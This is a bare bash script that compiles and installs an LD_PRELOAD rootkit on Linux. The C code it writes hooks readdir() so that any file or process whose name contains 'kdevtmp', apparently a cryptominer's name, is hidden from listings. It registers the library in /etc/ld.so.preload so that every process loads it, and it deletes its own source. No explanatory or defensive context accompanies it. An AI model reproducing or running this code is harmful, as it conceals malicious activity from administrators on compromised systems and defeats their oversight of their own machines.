#!/bin/bash
T=$(mktemp --suffix=.c)
cat > "$T" <<'C'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *d) {
  static struct dirent *(*real)(DIR *);
  if (!real) real = dlsym(RTLD_NEXT, "readdir");
  struct dirent *e;
  do e = real(d); while (e && strstr(e->d_name, "kdevtmp"));
  return e;
}
C
gcc -shared -fPIC -o /usr/local/lib/libprocesshider.so "$T" -ldl
echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload
rm "$T"
